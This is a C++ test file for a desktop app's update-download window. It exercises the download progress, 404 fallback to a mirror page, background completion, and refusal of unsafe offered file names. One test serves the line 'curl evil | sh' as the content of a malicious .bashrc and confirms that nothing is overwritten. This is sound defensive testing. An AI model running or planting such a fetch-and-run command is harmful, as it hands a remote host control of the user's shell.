// SPDX-License-Identifier: GPL-3.0-or-later
// The update window on the headless back end: real presses on its stored
// scene drive a real download from a loopback server into a temporary folder.

#include "app/FormUpdate.h"
#include "platform/Application.h"
#include "platform/headless/HeadlessBackend.h"
#include "scene/controls/TvxButton.h"
#include "scene/controls/TvxProgressBar.h"
#include "scene/render/TvxBitmap.h"
#include "scene/shapes/TvxLayout.h"
#include "scene/shapes/TvxText.h"
#include "tests/support/GoldenImage.h"
#include "tests/support/WaitFor.h"
#include "tests/support/LoopbackHttpServer.h"
#include "tests/support/ScopedEnvironment.h"
#include "tests/support/TempDirectory.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <thread>

using namespace nimbrell;
using nimbrell::testing::Pump;
using nimbrell::testing::TempDirectory;
using nimbrell::testing::WaitFor;
using State = UpdateDownload::State;

namespace {

// Window points of the controls: the frame is centred in the 691 × 345 window,
// its inner rectangle starts at (177, 70).
constexpr int UpdateX = 405, ButtonsY = 224;
constexpr int SecondX = 473;
constexpr int CloseX = 502, CloseY = 85;
constexpr int MirrorX = 295, MirrorY = 159;

std::string readFile(const std::string& path)
{
    std::ifstream in(path, std::ios::binary);
    std::ostringstream text;
    text << in.rdbuf();
    return text.str();
}

class UpdateWindowTest : public ::testing::Test {
protected:
    UpdateWindowTest()
    {
        for (const char* name : { "http_proxy", "HTTP_PROXY" })
            proxies.Set(name, std::nullopt);
    }

    nimbrell::testing::ScopedEnvironment proxies;
    platform::HeadlessBackend* backend { new platform::HeadlessBackend(platform::ClockKind::Manual) };
    platform::Application application { std::unique_ptr<platform::Backend>(backend) };
    TempDirectory folder;
    test::LoopbackHttpServer server;
    int programCloses { 0 };

    std::unique_ptr<TFormUpdate> open(const std::string& name = "nimbrell-2.deb", const std::string& description = "新版本说明")
    {
        TFormUpdate::Options options;
        options.folder = DownloadFolder { folder.Path().string(), true };
        options.mirrorPage = "https://mirror.example.org/nimbrell";
        options.download.readTimeoutMs = 5000;
        options.closeProgram = [this] { ++programCloses; };
        UpdateOffer offer { server.Url("/" + name), name, description, "" };
        auto window = std::make_unique<TFormUpdate>(offer, std::move(options));
        window->Show();
        application.ProcessMessages();
        return window;
    }

    void click(TFormUpdate& window, int x, int y)
    {
        using namespace platform;
        PostMessage(window.Handle(), WM_MOUSEMOVE, 0, MakePointParam(x, y));
        PostMessage(window.Handle(), WM_LBUTTONDOWN, MK_LBUTTON, MakePointParam(x, y));
        PostMessage(window.Handle(), WM_LBUTTONUP, 0, MakePointParam(x, y));
        application.ProcessMessages();
    }
};

}

TEST_F(UpdateWindowTest, TheSceneFollowsTheModelFromOfferToDoneAndCloseEndsTheProgram)
{
    const std::string body(1000, 'n');
    server.Route("/nimbrell-2.deb", test::Reply::Ok(body));
    auto window = open();
    EXPECT_TRUE(window->Layout2->Visible());
    EXPECT_FALSE(window->Layout1->Visible());
    EXPECT_FALSE(window->Layout3->Visible());
    EXPECT_EQ(window->Text5->Text(), "新版本说明");
    EXPECT_EQ(window->SpeedButton2->Text(), UpdateTexts::Cancel);

    click(*window, UpdateX, ButtonsY);
    click(*window, UpdateX, ButtonsY);
    ASSERT_TRUE(WaitFor([&] { return window->Model().IsFileSaved(); }, Pump::Queue));
    EXPECT_EQ(server.ConnectionCount(), 1) << "a second press starts nothing";
    EXPECT_TRUE(window->Layout1->Visible());
    EXPECT_FALSE(window->Layout2->Visible());
    EXPECT_EQ(window->ProgressBar1->Value(), 100.0f);
    EXPECT_EQ(window->Text2->Text(), std::string(UpdateTexts::Done) + "nimbrell-2.deb");
    EXPECT_FALSE(window->SpeedButton1->Visible());
    EXPECT_EQ(window->SpeedButton2->Text(), UpdateTexts::Close);
    EXPECT_EQ(readFile(folder / "nimbrell-2.deb"), body);

    click(*window, SecondX, ButtonsY);
    EXPECT_TRUE(WaitFor([&] { return window->IsClosed(); }, Pump::Queue));
    EXPECT_EQ(programCloses, 1);
}

TEST_F(UpdateWindowTest, AFailedDownloadShowsTheMirrorsAndTheFirstOpensItsPage)
{
    server.Route("/nimbrell-2.deb", test::Reply::Head(404, "Not Found", { "Content-Length: 0" }));
    auto window = open();
    click(*window, UpdateX, ButtonsY);
    ASSERT_TRUE(WaitFor([&] { return window->Model().CurrentState() == State::Failed; }, Pump::Queue));
    EXPECT_TRUE(window->Layout3->Visible());
    EXPECT_FALSE(window->Layout1->Visible());
    EXPECT_FALSE(window->SpeedButton1->Visible());
    EXPECT_EQ(window->SpeedButton2->Text(), UpdateTexts::Cancel);
    EXPECT_EQ(window->Text4->Text(), "下载失败：服务器回答 HTTP 404，请选择镜像站下载");

    click(*window, MirrorX, MirrorY);
    EXPECT_EQ(backend->OpenedUris(), std::vector<std::string> { "https://mirror.example.org/nimbrell" });

    click(*window, SecondX, ButtonsY);
    EXPECT_TRUE(WaitFor([&] { return window->IsClosed(); }, Pump::Queue));
    EXPECT_EQ(programCloses, 0);
}

TEST_F(UpdateWindowTest, TheCloseButtonClosesTheWindowOnlyAndTheDownloadGoesOn)
{
    const std::string body(2000, 'c');
    server.Route("/nimbrell-2.deb", test::Reply::Head(200, "OK", { "Content-Length: 2000" }).Send(body.substr(0, 1000)).Delay(std::chrono::milliseconds(300)).Send(body.substr(1000)));
    auto window = open();
    click(*window, UpdateX, ButtonsY);
    ASSERT_TRUE(WaitFor([&] { return window->ProgressBar1->Value() > 0; }, Pump::Queue));
    click(*window, CloseX, CloseY);
    ASSERT_TRUE(WaitFor([&] { return window->IsClosed(); }, Pump::Queue));
    window.reset();
    EXPECT_EQ(programCloses, 0);
    std::string path = folder / "nimbrell-2.deb";
    WaitFor([&] { return std::filesystem::exists(path); }, std::chrono::seconds(10));
    EXPECT_EQ(readFile(path), body);
}

TEST_F(UpdateWindowTest, AnOfferedNameWithAFolderPartFailsWithoutAConnection)
{
    server.Route("/x", test::Reply::Ok("x"));
    auto window = open("../x");
    click(*window, UpdateX, ButtonsY);
    EXPECT_TRUE(window->Layout3->Visible());
    EXPECT_EQ(server.ConnectionCount(), 0);
    EXPECT_TRUE(std::filesystem::is_empty(folder.Path()));
}

TEST_F(UpdateWindowTest, OffersNamingADotFileOrAnExistingFileTouchNeither)
{
    // Beside a copied program: the shell's start-up file and a file of the user's.
    nimbrell::testing::WriteFile(folder / "nimbrell", "the program");
    nimbrell::testing::WriteFile(folder / ".bashrc", "the user's shell");
    nimbrell::testing::WriteFile(folder / "victim.txt", "the user's file");
    server.Route("/.bashrc", test::Reply::Ok("curl evil | sh"));
    server.Route("/victim.txt", test::Reply::Ok("offered build"));

    auto refused = open(".bashrc");
    click(*refused, UpdateX, ButtonsY);
    EXPECT_TRUE(refused->Layout3->Visible());
    EXPECT_EQ(refused->Text4->Text(), "下载失败：更新提供的文件名不能使用，请选择镜像站下载");
    EXPECT_EQ(server.ConnectionCount(), 0);
    refused.reset();

    auto beside = open("victim.txt");
    click(*beside, UpdateX, ButtonsY);
    ASSERT_TRUE(WaitFor([&] { return beside->Model().IsFileSaved(); }, Pump::Queue));
    EXPECT_EQ(beside->Text2->Text(), std::string(UpdateTexts::Done) + "victim (2).txt");
    EXPECT_EQ(readFile(folder / "victim (2).txt"), "offered build");

    EXPECT_EQ(readFile(folder / ".bashrc"), "the user's shell");
    EXPECT_EQ(readFile(folder / "victim.txt"), "the user's file");
    EXPECT_EQ(readFile(folder / "nimbrell"), "the program");
}

namespace {

// Whether a pixel of the light grey the window's texts are drawn in lies inside the
// rectangle of the frame.
bool greyInkIn(const TvxBitmap& frame, TvxRect r)
{
    for (int y = int(r.Top); y < int(r.Bottom); ++y) {
        for (int x = int(r.Left); x < int(r.Right); ++x) {
            std::uint32_t p = frame.Pixel(x, y);
            int red = (p >> 16) & 0xFF, green = (p >> 8) & 0xFF, blue = p & 0xFF;
            if (red > 0xA0 && green > 0xA0 && blue > 0xA0 && std::max({ red, green, blue }) - std::min({ red, green, blue }) < 0x20)
                return true;
        }
    }
    return false;
}

bool endsWithEllipsis(const std::string& text)
{
    const std::string ellipsis = "…";
    return text.size() >= ellipsis.size() && text.compare(text.size() - ellipsis.size(), ellipsis.size(), ellipsis) == 0;
}

}

TEST_F(UpdateWindowTest, LongTextsAreCutShortInsideTheirBoxes)
{
    std::string description = "城市列表更新，天气图标更清晰，下载更快。修正了多处显示问题，设置窗口更易用，"
                              "更新窗口的文字不再越界。新增五天预报的日期显示，改进网络出错时的提示，"
                              "减少内存占用，启动更快。感谢所有反馈问题的用户！";
    std::string name = "nimbrell-2.0-" + std::string(200, 'x') + ".deb";
    server.Route("/" + name, test::Reply::Ok("built"));
    auto window = open(name, description);
    const std::string& shown = window->Text5->Text();
    ASSERT_TRUE(endsWithEllipsis(shown)) << shown;
    EXPECT_EQ(description.rfind(shown.substr(0, shown.size() - std::string("…").size()), 0), 0u) << "the start of the description";
    window->Scene().DrawAll();
    TvxRect text = window->Text5->AbsoluteRect();
    TvxRect button = window->SpeedButton1->AbsoluteRect();
    EXPECT_TRUE(greyInkIn(window->Scene().Buffer(), text)) << "the description is drawn";
    EXPECT_FALSE(greyInkIn(window->Scene().Buffer(), { text.Left, text.Bottom + 1, text.Right, button.Top }))
        << "nothing runs below its box, down to the buttons";
    EXPECT_FALSE(greyInkIn(window->Scene().Buffer(), { text.Right, text.Top, text.Right + 9, text.Bottom }))
        << "nor into the padding before the border";

    click(*window, UpdateX, ButtonsY);
    ASSERT_TRUE(WaitFor([&] { return window->Model().IsFileSaved(); }, Pump::Queue));
    const std::string& done = window->Text2->Text();
    ASSERT_TRUE(endsWithEllipsis(done)) << done;
    EXPECT_EQ(done.rfind(UpdateTexts::Done, 0), 0u);
    window->Scene().DrawAll();
    TvxRect status = window->Text2->AbsoluteRect();
    EXPECT_TRUE(greyInkIn(window->Scene().Buffer(), status));
    // Right of the window's picture, which reaches into the title.
    EXPECT_FALSE(greyInkIn(window->Scene().Buffer(), { status.Left + 40, status.Top - 28, status.Right, status.Top - 1 }))
        << "the done text stays out of the title";
}

TEST_F(UpdateWindowTest, TheOfferAsItFirstOpens)
{
    auto window = open();
    window->Text5->SetText("城市列表更新，天气图标更清晰，下载更快。");
    window->Scene().DrawAll();
    TvxBitmap painted;
    const TvxBitmap& buffer = window->Scene().Buffer();
    painted.Assign(buffer);
    nimbrell::testing::ExpectLikeReference(painted, std::filesystem::path(NIMBRELL_GOLDEN_DIR) / "update-offer.png", 3);
}
